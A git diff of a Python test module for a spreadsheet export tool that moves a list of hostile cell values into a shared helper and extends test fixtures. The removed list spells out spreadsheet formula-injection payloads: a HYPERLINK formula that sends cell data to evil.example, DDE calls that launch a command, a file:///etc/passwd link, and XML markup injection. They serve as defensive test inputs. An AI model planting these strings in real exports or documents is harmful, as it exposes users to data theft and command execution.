@@ -7,46 +7,15 @@ from xml.etree import ElementTree as ET
 
 import openpyxl
 import pytest
-from annotating import MAIN, about_of, part_of, problem, sheet_of
+from annotating import HOSTILE, MAIN, about_of, part_of, problem, sheet_of
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from importer.model import Outcome, Severity, State
-from importer.results import Against, write_workbook
+from importer.results import Against, Gone, write_workbook
 from importer.results.inert import hold, sheet_name, with_mark
 from importer.results.workbook import write_listing
 
-HOSTILE = {
-    "a link formula": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
-    "a DDE call": "=cmd|'/C calc'!A0",
-    "a DDE call without an equals sign": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "a plus": "+1+cmd|' /C calc'!A0",
-    "a minus": "-2+3+cmd|' /C calc'!A0",
-    "an array formula": "{=SUM(A1:A9)}",
-    "a tab first": "\t=1+1",
-    "a carriage return first": "\r=1+1",
-    "a line break inside": "a\n=1+1",
-    "an error text": "#N/A",
-    "an address": "https://evil.example/?q=a b",
-    "a file address": "file:///etc/passwd",
-    "a mail address": "mailto:a@evil.example",
-    "a link inside": "internal:'Summary'!A1",
-    "a link outside": "external:evil.xlsx#Sheet1!A1",
-    "markup": "</t></is></c><c><f>1+1</f></c>",
-    "our writer's own markup": "<r><t>=1</t></r>",
-    "an entity": "&lt;&#61;1&xxe;",
-    "the end of a section": "]]><!--",
-    "an escape of Excel": "_x003D_1+1",
-    "codes of a footer": '&F&"Arial"&A&G',
-    "quotes": "\"'!A1,'\"",
-    "control characters": "a\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff\ud800z",
-    "marks of direction": "\u202egnp.exe\u2066=1",
-    "40,000 characters": "=" + "x" * 39_999,
-    "40,000 pairs": "🚗" * 40_000,
-    "a number": "0012345",
-    "a truth": "TRUE",
-    "nothing but blanks": "   ",
-}
 RELATIONSHIP = "{http://schemas.openxmlformats.org/package/2006/relationships}Relationship"
 
 
@@ -75,9 +44,21 @@ def everywhere(text):
         origins={text: (0,), "unique_id": (1,)},
         notes=(text,),
         earlier=dict.fromkeys(range(5), text),
+        news={0: (text,), 1: ()},
     )
-    facts = ("run", "digest", "mapping", "endpoint", "host", "client", "user", "stopped", "given")
-    against = Against(text, 1, text, 1, 1, 1, 1, ((text, 1),), 1, (text,), (text,))
+    facts = (
+        "run",
+        "digest",
+        "mapping",
+        "endpoint",
+        "host",
+        "client",
+        "user",
+        "stopped",
+        "given",
+        "deletes",
+    )
+    against = Against(text, 1, text, 1, 1, 1, 1, ((text, 1),), (Gone(text, text),), (text,))
     about = about_of(
         **dict.fromkeys(facts, text), source=Path("name"), notes=(text,), against=against
     )
